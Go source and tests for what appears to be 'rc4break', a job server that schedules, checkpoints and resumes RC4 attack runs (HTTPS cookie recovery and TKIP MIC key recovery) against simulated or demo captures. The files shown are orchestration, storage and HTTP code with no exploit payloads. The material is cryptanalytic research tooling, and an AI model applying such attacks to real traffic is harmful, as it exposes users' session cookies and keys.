// stores to hold the identical sorted set of blobs (every checkpoint
// deduplicated, no stray partial state).
func TestServiceCrashRestartResumesByteIdentical(t *testing.T) {
	specs, tenants := crashSpecs()

	// Control: same specs, never interrupted.
	controlStore, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	control, err := New(Config{Store: controlStore, Capacity: 1, Logf: t.Logf})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for i, spec := range specs {
		st, err := control.Submit(tenants[i], spec)
		if err != nil {
			t.Fatalf("control submit %d: %v", i, err)
		}
		ids = append(ids, st.ID)
	}
	control.Wait()

	// Crash run: interrupt once the first job has completed a decode round.
	dir := t.TempDir()
	crashStore, err := OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	crashed, err := New(Config{Store: crashStore, Capacity: 1, Logf: t.Logf})
	if err != nil {
		t.Fatal(err)
	}
	for i, spec := range specs {
		st, err := crashed.Submit(tenants[i], spec)
		if err != nil {
			t.Fatalf("crash submit %d: %v", i, err)
		}
		if st.ID != ids[i] {
			t.Fatalf("crash run assigned %s, control %s", st.ID, ids[i])
		}
	}
	waitFor(t, "first job to finish a round", func() bool {
		st, err := crashed.Status(ids[0])
		return err == nil && st.Rounds >= 1
	})
	crashed.Interrupt()
	nonTerminal := 0
	for _, id := range ids {
		st, err := crashed.Status(id)
		if err != nil {
			t.Fatal(err)
		}
		if st.State != StateDone && st.State != StateFailed {
			nonTerminal++
		}
	}
	if nonTerminal == 0 {
		t.Fatal("interrupt landed after every job finished; resume path not exercised")
	}

	// Restart over the same store.
	restartStore, err := OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	restarted, err := New(Config{Store: restartStore, Capacity: 2, Logf: t.Logf})
	if err != nil {
		t.Fatal(err)
	}
	if n := restarted.Resume(); n != nonTerminal {
		t.Fatalf("Resume relaunched %d jobs, want %d", n, nonTerminal)
	}
	restarted.Wait()

	// Checks/Skipped are deliberately not compared: the oracle's reject
	// cache is in-memory only, so a resumed run re-checks candidates a
	// continuous run skipped. Everything evidence-derived must match.
	for _, id := range ids {
		want, err := control.Status(id)
		if err != nil {
			t.Fatal(err)
		}
		got, err := restarted.Status(id)
		if err != nil {
			t.Fatal(err)
		}
		if got.State != want.State || got.Success != want.Success || got.Rank != want.Rank ||
			got.Observed != want.Observed || got.Rounds != want.Rounds ||
			got.Plaintext != want.Plaintext || got.Evidence != want.Evidence {
			t.Errorf("job %s after crash+resume:\n got %+v\nwant %+v", id, got, want)
		}
		wantEv, err := control.EvidenceBytes(id)
		if err != nil {
			t.Fatal(err)
		}
		gotEv, err := restarted.EvidenceBytes(id)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(gotEv, wantEv) {
			t.Errorf("job %s evidence bytes differ after crash+resume", id)
		}
	}
	controlBlobs, err := controlStore.BlobKeys()
	if err != nil {
		t.Fatal(err)
	}
	crashBlobs, err := restartStore.BlobKeys()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(crashBlobs, controlBlobs) {
		t.Errorf("blob sets diverge after crash+resume:\n got %d blobs %v\nwant %d blobs %v",
			len(crashBlobs), crashBlobs, len(controlBlobs), controlBlobs)
	}
}

// TestServiceDrainSuspendsAndResumes covers the graceful SIGTERM path:
// Drain checkpoints every in-flight job as suspended, a restarted server
// resumes them, and final results still match the solo reference.
func TestServiceDrainSuspendsAndResumes(t *testing.T) {
	specs, tenants := crashSpecs()
	dir := t.TempDir()
	store1, err := OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	s1, err := New(Config{Store: store1, Capacity: 1, Logf: t.Logf})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for i, spec := range specs {
		st, err := s1.Submit(tenants[i], spec)
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, st.ID)
	}
	waitFor(t, "capture progress", func() bool {
		st, err := s1.Status(ids[0])
		return err == nil && st.Observed > 0
	})
	s1.Drain()
	if s1.Ready() == nil {
		t.Error("Ready() nil after drain; /healthz would stay green")
	}
	if _, err := s1.Submit("t-late", specs[0]); !errors.Is(err, ErrDraining) {
		t.Errorf("post-drain submit = %v, want ErrDraining", err)
	}
	suspended := 0
	for _, id := range ids {
		st, err := s1.Status(id)
		if err != nil {
			t.Fatal(err)
		}
		switch st.State {
		case StateSuspended:
			suspended++
			if st.Evidence == "" {
				t.Errorf("job %s suspended without an evidence checkpoint", id)
			}
		case StateDone: // finished before the drain landed
		default:
			t.Errorf("job %s state %q after drain, want suspended or done", id, st.State)
		}
	}
	if suspended == 0 {
		t.Fatal("drain suspended no jobs; nothing to resume")
	}

	store2, err := OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	s2, err := New(Config{Store: store2, Capacity: 2, Logf: t.Logf})
	if err != nil {
		t.Fatal(err)
	}
	if n := s2.Resume(); n != suspended {
		t.Fatalf("Resume relaunched %d jobs, want %d", n, suspended)
	}
	s2.Wait()
	solo := &soloRunner{}
	for i, id := range ids {
		res, snap, runErr := solo.run(t, specs[i])
		st, err := s2.Status(id)
		if err != nil {
			t.Fatal(err)
		}
		if st.State != StateDone || st.Success != (runErr == nil) || st.Rank != res.Rank ||
			st.Observed != res.Observed || st.Rounds != res.Rounds ||
			st.Plaintext != hex.EncodeToString(res.Plaintext) {
			t.Errorf("job %s after drain+resume: %+v vs solo rank=%d observed=%d rounds=%d",
				id, st, res.Rank, res.Observed, res.Rounds)
		}
		ev, err := s2.EvidenceBytes(id)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(ev, snap) {
			t.Errorf("job %s evidence differs from solo after drain+resume", id)
		}
	}
}
