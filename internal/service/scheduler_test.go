package service

import (
	"errors"
	"sync"
	"testing"
	"time"
)

// waitFor polls cond with a generous bound; tests use it to sequence
// goroutines without wall-clock reads.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	for i := 0; i < 20000; i++ {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

func TestSchedulerCapacityBound(t *testing.T) {
	s := NewScheduler(2)
	for i := 0; i < 2; i++ {
		if err := s.Acquire("a"); err != nil {
			t.Fatalf("acquire %d: %v", i, err)
		}
	}
	if got := s.InUse(); got != 2 {
		t.Fatalf("InUse = %d, want 2", got)
	}
	done := make(chan struct{})
	go func() {
		if err := s.Acquire("b"); err != nil {
			t.Errorf("blocked acquire: %v", err)
		}
		close(done)
	}()
	waitFor(t, "third acquire to queue", func() bool { return s.Waiting() == 1 })
	select {
	case <-done:
		t.Fatal("acquired a third slot with capacity 2")
	default:
	}
	s.Release() // hands the slot to the waiter
	<-done
	if got := s.InUse(); got != 2 {
		t.Fatalf("InUse after handoff = %d, want 2", got)
	}
	s.Release()
	s.Release()
	if got := s.InUse(); got != 0 {
		t.Fatalf("InUse after all releases = %d, want 0", got)
	}
}

// TestSchedulerFairShare stages three waiters from tenant a and one from
// tenant b behind a held slot; grants must alternate round-robin across
// tenants (FIFO within a tenant), not drain tenant a's backlog first.
func TestSchedulerFairShare(t *testing.T) {
	s := NewScheduler(1)
	if err := s.Acquire("hold"); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var order []string
	var wg sync.WaitGroup
	waiters := []struct{ tenant, label string }{
		{"a", "a1"}, {"a", "a2"}, {"a", "a3"}, {"b", "b1"},
	}
	for i, w := range waiters {
		wg.Add(1)
		go func(tenant, label string) {
			defer wg.Done()
			if err := s.Acquire(tenant); err != nil {
				t.Errorf("%s: %v", label, err)
				return
			}
			mu.Lock()
			order = append(order, label)
			mu.Unlock()
			s.Release()
		}(w.tenant, w.label)
		n := i + 1
		waitFor(t, "waiter to queue", func() bool { return s.Waiting() == n })
	}
	s.Release() // cascade: each granted waiter releases to the next
	wg.Wait()
	want := []string{"a1", "b1", "a2", "a3"}
	mu.Lock()
	defer mu.Unlock()
	if len(order) != len(want) {
		t.Fatalf("grant order %v, want %v", order, want)
	}
	for i := range want {
		if order[i] != want[i] {
			t.Fatalf("grant order %v, want %v (fair-share violated)", order, want)
		}
	}
	if got := s.InUse(); got != 0 {
		t.Fatalf("InUse after cascade = %d, want 0", got)
	}
}

func TestSchedulerStopWakesWaiters(t *testing.T) {
	s := NewScheduler(1)
	if err := s.Acquire("x"); err != nil {
		t.Fatal(err)
	}
	errs := make(chan error, 2)
	go func() { errs <- s.Acquire("y") }()
	go func() { errs <- s.Acquire("z") }()
	waitFor(t, "waiters to queue", func() bool { return s.Waiting() == 2 })
	s.Stop(errDrained)
	for i := 0; i < 2; i++ {
		if err := <-errs; !errors.Is(err, errDrained) {
			t.Fatalf("waiter woke with %v, want errDrained", err)
		}
	}
	if err := s.Acquire("w"); !errors.Is(err, errDrained) {
		t.Fatalf("post-stop acquire = %v, want errDrained", err)
	}
	if got := s.Waiting(); got != 0 {
		t.Fatalf("Waiting after stop = %d, want 0", got)
	}
}
