package service

import (
	"bufio"
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

func TestHTTPEndpoints(t *testing.T) {
	store, err := OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	s, err := New(Config{Store: store, Capacity: 1, TenantMaxActive: 1, MaxActive: 2, Logf: t.Logf})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	// Malformed body and invalid spec are 400s.
	resp, err := http.Post(ts.URL+"/api/v1/jobs", "application/json", strings.NewReader("{"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("malformed body: http %d, want 400", resp.StatusCode)
	}
	if _, code, _ := submitHTTP(ts.URL, "x", JobSpec{Attack: "nope"}); code != http.StatusBadRequest {
		t.Fatalf("bad spec: http %d, want 400", code)
	}

	if code, body := getBody(t, ts.URL+"/healthz"); code != http.StatusOK || !bytes.Contains(body, []byte("ok")) {
		t.Fatalf("/healthz: http %d body %q", code, body)
	}

	spec := JobSpec{Attack: "cookie", Mode: "model", Seed: 5, Secret: "C00kie",
		Budget: 9 << 27, FirstDecode: 9 << 25, MaxCandidates: 1 << 10, CheckpointRounds: 100}
	st1, code, err := submitHTTP(ts.URL, "alpha", spec)
	if err != nil || code != http.StatusAccepted {
		t.Fatalf("submit: code=%d err=%v", code, err)
	}
	if st1.ID == "" || st1.Tenant != "alpha" || st1.State != StateQueued {
		t.Fatalf("submit status %+v", st1)
	}

	// Admission control: tenant cap then global cap, both 429.
	if _, code, _ := submitHTTP(ts.URL, "alpha", spec); code != http.StatusTooManyRequests {
		t.Fatalf("tenant-limit submit: http %d, want 429", code)
	}
	spec2 := spec
	spec2.Seed = 6
	st2, code, err := submitHTTP(ts.URL, "beta", spec2)
	if err != nil || code != http.StatusAccepted {
		t.Fatalf("second tenant submit: code=%d err=%v", code, err)
	}
	if _, code, _ := submitHTTP(ts.URL, "gamma", spec); code != http.StatusTooManyRequests {
		t.Fatalf("global-limit submit: http %d, want 429", code)
	}

	// Result of an unfinished job is 409; unknown job is 404.
	if code := getJSON(t, ts.URL+"/api/v1/jobs/"+st1.ID+"/result", nil); code != http.StatusConflict {
		t.Fatalf("early result: http %d, want 409", code)
	}
	if code := getJSON(t, ts.URL+"/api/v1/jobs/j-9999", nil); code != http.StatusNotFound {
		t.Fatalf("unknown job: http %d, want 404", code)
	}

	s.Wait()

	var list []JobStatus
	if code := getJSON(t, ts.URL+"/api/v1/jobs", &list); code != http.StatusOK || len(list) != 2 {
		t.Fatalf("list: http %d, %d jobs, want 2", code, len(list))
	}
	if list[0].ID != st1.ID || list[1].ID != st2.ID {
		t.Fatalf("list order %s,%s want %s,%s", list[0].ID, list[1].ID, st1.ID, st2.ID)
	}
	var alpha []JobStatus
	if code := getJSON(t, ts.URL+"/api/v1/jobs?tenant=alpha", &alpha); code != http.StatusOK ||
		len(alpha) != 1 || alpha[0].ID != st1.ID {
		t.Fatalf("tenant filter: http %d %+v", code, alpha)
	}

	var done JobStatus
	if code := getJSON(t, ts.URL+"/api/v1/jobs/"+st1.ID+"/result", &done); code != http.StatusOK {
		t.Fatalf("result: http %d, want 200", code)
	}
	if done.State != StateDone || !done.Success || done.Evidence == "" {
		t.Fatalf("finished job status %+v", done)
	}

	// The event stream replays admission -> running -> rounds -> terminal.
	sresp, err := http.Get(ts.URL + "/api/v1/jobs/" + st1.ID + "/stream")
	if err != nil {
		t.Fatal(err)
	}
	defer sresp.Body.Close()
	if ct := sresp.Header.Get("Content-Type"); ct != "application/x-ndjson" {
		t.Fatalf("stream content type %q", ct)
	}
	var events []Event
	sc := bufio.NewScanner(sresp.Body)
	for sc.Scan() {
		var ev Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("stream line %q: %v", sc.Text(), err)
		}
		events = append(events, ev)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if len(events) < 3 {
		t.Fatalf("stream has %d events, want >= 3 (queued, running, terminal)", len(events))
	}
	if events[0].State != StateQueued || events[len(events)-1].State != StateDone {
		t.Fatalf("stream states: first %q last %q", events[0].State, events[len(events)-1].State)
	}
	for i, ev := range events {
		if ev.Seq != i+1 || ev.Job != st1.ID {
			t.Fatalf("event %d: %+v", i, ev)
		}
	}

	code, ev := getBody(t, ts.URL+"/api/v1/jobs/"+st1.ID+"/evidence")
	if code != http.StatusOK || len(ev) == 0 {
		t.Fatalf("evidence: http %d, %d bytes", code, len(ev))
	}

	code, metricsBody := getBody(t, ts.URL+"/metrics")
	if code != http.StatusOK || !bytes.Contains(metricsBody, []byte("attackd_jobs")) {
		t.Fatalf("/metrics: http %d", code)
	}

	// Drain flips /healthz and rejects submissions with 503.
	s.Drain()
	if code, _ := getBody(t, ts.URL+"/healthz"); code != http.StatusServiceUnavailable {
		t.Fatalf("/healthz after drain: http %d, want 503", code)
	}
	if _, code, _ := submitHTTP(ts.URL, "alpha", spec); code != http.StatusServiceUnavailable {
		t.Fatalf("post-drain submit: http %d, want 503", code)
	}
}
