// Package service is the multi-tenant control plane over the online attack
// runtime: a long-running job server that accepts attack configurations
// (cookie or TKIP, model or exact capture), multiplexes many concurrent
// online.Run loops over bounded compute capacity, and persists every job
// through a content-addressed snapshot store so a restart resumes the whole
// fleet of jobs byte-identically.
//
// The layer's invariant is *scheduler transparency*: a job's evidence
// bytes, success rank, round count and oracle checks are a pure function of
// its JobSpec, never of what else the service was running, how slots were
// interleaved, or how often the process was killed and restarted. The
// mechanism is the same one the fleet layer uses — capture advances in
// absolute granules (multiples of the spec's CaptureChunk plus the absolute
// decode points), each granule's simulation RNG derives from
// cliutil.ContinuationSeed at the granule start, and exact-mode streams
// fast-forward via the victims' O(1) Skip — so any suspension point the
// scheduler or a crash can produce is a point an uninterrupted run also
// passes through. SoloRun is the reference implementation of that pure
// function; the load acceptance test pins the service against it.
package service

import (
	"errors"
	"fmt"
	"strconv"

	"rc4break/internal/obs"
	"rc4break/internal/online"
)

// Job states. A job is "queued" from admission until its first scheduler
// slot, "running" while the online loop holds or contends for slots,
// "suspended" after a graceful drain checkpointed it mid-run, and
// terminally "done" (the online loop finished — successfully or by budget
// exhaustion, see JobResult.Success) or "failed" (a runtime error).
// Queued, running and suspended jobs all resume after a restart.
const (
	StateQueued    = "queued"
	StateRunning   = "running"
	StateSuspended = "suspended"
	StateDone      = "done"
	StateFailed    = "failed"
)

// JobStates lists every state in lifecycle order — the metrics endpoint
// exposes one jobs-by-state gauge per entry.
var JobStates = []string{StateQueued, StateRunning, StateSuspended, StateDone, StateFailed}

// Admission and lifecycle errors surfaced by Submit; the HTTP layer maps
// them to status codes (429 for admission limits, 503 for draining).
var (
	ErrDraining   = errors.New("service: draining, not accepting jobs")
	ErrTenantBusy = errors.New("service: tenant active-job limit reached")
	ErrQueueFull  = errors.New("service: active-job capacity reached")
	ErrNotFound   = errors.New("service: no such job")
	ErrNotDone    = errors.New("service: job has not finished")
)

// JobSpec is the submitted attack configuration — the complete identity of
// a job's capture stream and decode schedule. Everything a job produces is
// a pure function of this struct, so two jobs with equal specs produce
// bitwise-equal evidence (and therefore share one evidence blob in the
// content-addressed store).
type JobSpec struct {
	// Attack is "cookie" (§6 HTTPS cookie recovery) or "tkip" (§5 Michael
	// MIC key recovery).
	Attack string `json:"attack"`
	// Mode is "model" (simulated sufficient statistics) or "exact" (the
	// full per-record capture path). Defaults to "model".
	Mode string `json:"mode,omitempty"`
	// Seed identifies the victim's capture stream. Exact-mode TKIP ignores
	// it (that stream is the demo session's TSC sequence).
	Seed int64 `json:"seed,omitempty"`
	// Secret is the cookie attack's target cookie value; its length sets
	// the unknown span. Unused by TKIP.
	Secret string `json:"secret,omitempty"`
	// Budget caps total observations (records or frames).
	Budget uint64 `json:"budget,omitempty"`
	// FirstDecode and DecodeEvery shape the decode cadence (geometric from
	// FirstDecode when DecodeEvery is zero — online.Cadence semantics).
	FirstDecode uint64 `json:"first_decode,omitempty"`
	DecodeEvery uint64 `json:"decode_every,omitempty"`
	// MaxCandidates bounds each round's candidate walk.
	MaxCandidates int `json:"max_candidates,omitempty"`
	// CaptureChunk is the capture granule: the scheduler grants one slot
	// per granule, and granule boundaries are absolute multiples of this
	// value, so every possible suspension point is a point an
	// uninterrupted run also passes through. Defaults to FirstDecode/2.
	CaptureChunk uint64 `json:"capture_chunk,omitempty"`
	// CheckpointRounds persists the evidence blob every N unsuccessful
	// decode rounds (default 1 — every round). Terminal states always
	// persist.
	CheckpointRounds int `json:"checkpoint_rounds,omitempty"`
	// TrainKeys sizes the TKIP per-TSC model (keys per TSC0 class). All
	// jobs with equal TrainKeys share one trained model and one model
	// blob.
	TrainKeys uint64 `json:"train_keys,omitempty"`
	// Workers bounds per-job capture parallelism (0 = GOMAXPROCS); it
	// never affects the evidence bytes.
	Workers int `json:"workers,omitempty"`
	// TraceID, when set, joins this job's spans to a trace the submitter
	// already owns: up to 16 hex digits (a 64-bit trace ID). Empty means the
	// server mints a fresh trace per job. Purely observational — it never
	// affects scheduling or evidence.
	TraceID string `json:"trace_id,omitempty"`
}

// Normalize validates the spec and fills defaults, returning the resolved
// spec that is persisted in the manifest — so a restarted server re-derives
// the job from the manifest alone even if compiled-in defaults change.
func (s JobSpec) Normalize() (JobSpec, error) {
	switch s.Mode {
	case "":
		s.Mode = "model"
	case "model", "exact":
	default:
		return s, fmt.Errorf("service: unknown mode %q (want model or exact)", s.Mode)
	}
	switch s.Attack {
	case "cookie":
		if len(s.Secret) == 0 || len(s.Secret) > 64 {
			return s, fmt.Errorf("service: cookie secret length %d out of range [1,64]", len(s.Secret))
		}
		if s.Budget == 0 {
			s.Budget = 9 << 27
		}
		if s.FirstDecode == 0 {
			s.FirstDecode = 1 << 27
		}
		if s.MaxCandidates == 0 {
			s.MaxCandidates = 1 << 13
		}
	case "tkip":
		if s.Secret != "" {
			return s, errors.New("service: tkip jobs take no secret (the demo session is the target)")
		}
		if s.Budget == 0 {
			s.Budget = 9 << 20
		}
		if s.FirstDecode == 0 {
			s.FirstDecode = 1 << 20
		}
		if s.MaxCandidates == 0 {
			s.MaxCandidates = 1 << 20
		}
		if s.TrainKeys == 0 {
			s.TrainKeys = 1 << 12
		}
		if s.Mode == "exact" {
			// The exact stream is the demo session's TSC sequence; pinning
			// the seed makes the stream identity honest (and equal-spec
			// jobs dedup their evidence blobs).
			s.Seed = 0
		}
	default:
		return s, fmt.Errorf("service: unknown attack %q (want cookie or tkip)", s.Attack)
	}
	if s.FirstDecode > s.Budget {
		return s, fmt.Errorf("service: first decode %d beyond budget %d", s.FirstDecode, s.Budget)
	}
	if s.CaptureChunk == 0 {
		if s.CaptureChunk = s.FirstDecode / 2; s.CaptureChunk == 0 {
			s.CaptureChunk = s.FirstDecode
		}
	}
	if s.CheckpointRounds <= 0 {
		s.CheckpointRounds = 1
	}
	if s.TraceID != "" {
		if _, err := ParseTraceID(s.TraceID); err != nil {
			return s, err
		}
	}
	return s, nil
}

// ParseTraceID decodes a submitted trace_id: 1..16 hex digits, nonzero.
func ParseTraceID(s string) (obs.TraceID, error) {
	if len(s) > 16 {
		return 0, fmt.Errorf("service: trace_id %q longer than 16 hex digits", s)
	}
	id, err := strconv.ParseUint(s, 16, 64)
	if err != nil {
		return 0, fmt.Errorf("service: trace_id %q is not hex: %v", s, err)
	}
	if id == 0 {
		return 0, errors.New("service: trace_id must be nonzero (omit it for a fresh trace)")
	}
	return obs.TraceID(id), nil
}

func (s JobSpec) cadence() online.Cadence {
	return online.Cadence{First: s.FirstDecode, Every: s.DecodeEvery}
}

// JobResult is the persisted outcome of a finished job.
type JobResult struct {
	// Success reports an oracle-confirmed recovery; false with an empty
	// Error means budget exhaustion.
	Success   bool
	Plaintext []byte
	Rank      int
	Checks    uint64
	Skipped   uint64
	Error     string
}

// Manifest is a job's durable record in the store — everything a restarted
// server needs to resume (or report) the job: the resolved spec, the
// lifecycle state, and the content addresses of its evidence and shared
// model blobs. It is written through the snapshot envelope (atomic
// temp+rename), so a crash never leaves a torn manifest.
type Manifest struct {
	ID     string
	Tenant string
	Spec   JobSpec
	State  string
	// Evidence and Model are hex BlobKeys into the store; empty when not
	// yet persisted (Evidence) or not applicable (Model, cookie jobs).
	Evidence string
	Model    string
	// Observed and Rounds mirror the checkpointed evidence (informational;
	// the evidence blob is authoritative on resume).
	Observed uint64
	Rounds   int
	Result   JobResult
}

// Event is one progress line in a job's JSON event stream.
type Event struct {
	Job      string `json:"job"`
	Tenant   string `json:"tenant"`
	Seq      int    `json:"seq"`
	State    string `json:"state"`
	Observed uint64 `json:"observed"`
	Round    int    `json:"round,omitempty"`
	Msg      string `json:"msg,omitempty"`
}

// JobStatus is the JSON view of a manifest served by the HTTP API.
type JobStatus struct {
	ID        string `json:"id"`
	Tenant    string `json:"tenant"`
	Attack    string `json:"attack"`
	Mode      string `json:"mode"`
	State     string `json:"state"`
	Observed  uint64 `json:"observed"`
	Rounds    int    `json:"rounds,omitempty"`
	Success   bool   `json:"success"`
	Plaintext string `json:"plaintext,omitempty"`
	Rank      int    `json:"rank,omitempty"`
	Checks    uint64 `json:"checks,omitempty"`
	Skipped   uint64 `json:"skipped,omitempty"`
	Error     string `json:"error,omitempty"`
	Evidence  string `json:"evidence,omitempty"`
	Model     string `json:"model,omitempty"`
}
