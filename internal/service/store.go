package service

import (
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"

	"rc4break/internal/snapshot"
)

// Envelope kinds for the store's two artifact classes. Blob payloads are
// themselves complete snapshot envelopes (an attack's WriteSnapshot bytes,
// a model's Save bytes), so every consumer revalidates the inner envelope's
// kind, CRC and fingerprint on load — the store adds content addressing on
// top without reinventing the integrity layer.
const (
	blobKind     = "rc4break.service.blob.v1"
	manifestKind = "rc4break.service.job.v1"
)

// Store is the content-addressed snapshot store behind the job server.
// Blobs live at blobs/<hex-key> where the key is snapshot.BlobKey over the
// payload — so equal payloads occupy one file no matter how many jobs
// reference them (N jobs against one trained model hold one model blob, and
// equal-spec jobs share evidence checkpoints). Job manifests live at
// jobs/<id>. All writes go through the envelope's atomic temp+fsync+rename
// path, so a crash at any instant leaves either the old or the new bytes,
// never a torn file.
type Store struct {
	dir string
}

// OpenStore opens (creating if needed) a store rooted at dir.
func OpenStore(dir string) (*Store, error) {
	for _, sub := range []string{"blobs", "jobs"} {
		if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
			return nil, err
		}
	}
	return &Store{dir: dir}, nil
}

// Dir reports the store root.
func (st *Store) Dir() string { return st.dir }

func (st *Store) blobPath(key [16]byte) string {
	return filepath.Join(st.dir, "blobs", hex.EncodeToString(key[:]))
}

// PutBlob stores payload under its content address and reports the key and
// whether an identical blob was already present (the dedup hit: the write
// is skipped — same key means same kind and same bytes).
func (st *Store) PutBlob(payload []byte) (key [16]byte, existed bool, err error) {
	key = snapshot.BlobKey(blobKind, payload)
	path := st.blobPath(key)
	if _, err := os.Stat(path); err == nil {
		return key, true, nil
	} else if !errors.Is(err, os.ErrNotExist) {
		return key, false, err
	}
	return key, false, snapshot.WriteFile(path, blobKind, payload)
}

// GetBlob loads the payload stored under key, re-deriving the content
// address from the bytes read: a blob that no longer hashes to its own name
// (disk corruption below the envelope CRC's granularity, or a renamed file)
// fails loudly instead of feeding a job wrong evidence.
func (st *Store) GetBlob(key [16]byte) ([]byte, error) {
	f, err := os.Open(st.blobPath(key))
	if err != nil {
		return nil, err
	}
	defer f.Close()
	kind, payload, err := snapshot.Read(f)
	if err != nil {
		return nil, err
	}
	if kind != blobKind {
		return nil, fmt.Errorf("service: blob %x holds envelope kind %q", key, kind)
	}
	if got := snapshot.BlobKey(blobKind, payload); got != key {
		return nil, fmt.Errorf("service: blob %x content hashes to %x (store corrupted)", key, got)
	}
	return payload, nil
}

// HasBlob reports whether key is present.
func (st *Store) HasBlob(key [16]byte) bool {
	_, err := os.Stat(st.blobPath(key))
	return err == nil
}

// BlobKeys lists the stored content addresses in sorted hex order.
func (st *Store) BlobKeys() ([]string, error) {
	ents, err := os.ReadDir(filepath.Join(st.dir, "blobs"))
	if err != nil {
		return nil, err
	}
	keys := make([]string, 0, len(ents))
	for _, e := range ents {
		if !e.IsDir() {
			keys = append(keys, e.Name())
		}
	}
	sort.Strings(keys)
	return keys, nil
}

// BlobCount reports the number of stored blobs.
func (st *Store) BlobCount() (int, error) {
	keys, err := st.BlobKeys()
	return len(keys), err
}

// PutManifest persists a job manifest (atomic replace of any previous
// version).
func (st *Store) PutManifest(m Manifest) error {
	if m.ID == "" {
		return errors.New("service: manifest without job ID")
	}
	return snapshot.WriteFileGob(filepath.Join(st.dir, "jobs", m.ID), manifestKind, m)
}

// GetManifest loads one job manifest.
func (st *Store) GetManifest(id string) (Manifest, error) {
	var m Manifest
	err := snapshot.ReadFileGob(filepath.Join(st.dir, "jobs", id), manifestKind, &m)
	return m, err
}

// Manifests loads every job manifest, sorted by job ID — the restart scan.
func (st *Store) Manifests() ([]Manifest, error) {
	ents, err := os.ReadDir(filepath.Join(st.dir, "jobs"))
	if err != nil {
		return nil, err
	}
	var out []Manifest
	for _, e := range ents { // ReadDir sorts by name
		if e.IsDir() {
			continue
		}
		m, err := st.GetManifest(e.Name())
		if err != nil {
			return nil, fmt.Errorf("service: manifest %s: %w", e.Name(), err)
		}
		out = append(out, m)
	}
	return out, nil
}

// ParseKey decodes a hex blob key (the Manifest.Evidence/Model encoding).
func ParseKey(s string) ([16]byte, error) {
	var key [16]byte
	b, err := hex.DecodeString(s)
	if err != nil || len(b) != len(key) {
		return key, fmt.Errorf("service: bad blob key %q", s)
	}
	copy(key[:], b)
	return key, nil
}
