package service

import (
	"bytes"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"sync"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/metrics"
	"rc4break/internal/obs"
	"rc4break/internal/online"
	"rc4break/internal/tkip"
)

// Config configures a job server.
type Config struct {
	// Store is the content-addressed store backing the server (required).
	Store *Store
	// Capacity is the scheduler's slot count — the bound on concurrent
	// capture granules plus decode rounds. Default 2.
	Capacity int
	// TenantMaxActive caps one tenant's unfinished jobs (0 = unlimited);
	// MaxActive caps unfinished jobs across all tenants (0 = unlimited).
	// Both are admission control: Submit rejects, nothing queues outside
	// the server.
	TenantMaxActive int
	MaxActive       int
	// Logf, when non-nil, receives one narrative line per job transition.
	Logf func(format string, args ...interface{})
	// Results, when non-nil, receives one cliutil.RunResult JSON line per
	// finished job — the same schema the attack CLIs emit under -json,
	// with the job/tenant fields set.
	Results io.Writer
	// Tracer, when non-nil, records job lifecycle spans (admit, run,
	// granule, decode round — tenant-labelled) into the journal the daemon
	// serves at /debug/trace. A spec's TraceID joins the submitter's trace;
	// otherwise each job is its own trace. Nil costs one pointer check per
	// span site.
	Tracer *obs.Journal
}

// Job is one admitted job: its manifest (mirrored to the store) plus the
// in-memory event log streamed by the HTTP API.
type Job struct {
	mu       sync.Mutex
	cond     *sync.Cond
	man      Manifest
	events   []Event
	terminal bool
}

func newJob(man Manifest) *Job {
	j := &Job{man: man}
	j.cond = sync.NewCond(&j.mu)
	return j
}

// Server multiplexes concurrent online attack jobs over shared capacity.
// Lock order: Server.mu before Job.mu; neither is held across capture or
// decode work.
type Server struct {
	cfg   Config
	store *Store
	sched *Scheduler
	reg   *metrics.Registry

	obsTotal      *metrics.Counter
	roundsTotal   *metrics.Counter
	decodeSeconds *metrics.Counter

	roundSeconds   *metrics.Histogram
	granuleSeconds *metrics.Histogram
	httpSeconds    *metrics.Histogram

	mu        sync.Mutex
	jobs      map[string]*Job
	order     []string // admission order; every listing iterates this, never the map
	nextID    int
	modelKeys map[uint64]string // TrainKeys -> persisted model blob key (hex)
	stopped   error

	resultsMu sync.Mutex
	wg        sync.WaitGroup
}

// New opens a server over cfg.Store, loading every persisted job manifest.
// Loaded jobs do not run until Resume is called — the daemon wires its HTTP
// listener first so /healthz and job status are visible during resume.
func New(cfg Config) (*Server, error) {
	if cfg.Store == nil {
		return nil, errors.New("service: Config.Store is required")
	}
	if cfg.Capacity <= 0 {
		cfg.Capacity = 2
	}
	s := &Server{
		cfg:       cfg,
		store:     cfg.Store,
		sched:     NewScheduler(cfg.Capacity),
		reg:       metrics.NewRegistry(),
		jobs:      make(map[string]*Job),
		modelKeys: make(map[uint64]string),
	}

	mans, err := s.store.Manifests()
	if err != nil {
		return nil, err
	}
	for _, man := range mans {
		s.jobs[man.ID] = newJob(man)
		s.order = append(s.order, man.ID)
		var n int
		if _, err := fmt.Sscanf(man.ID, "j-%d", &n); err == nil && n >= s.nextID {
			s.nextID = n + 1
		}
		if man.Spec.Attack == "tkip" && man.Model != "" {
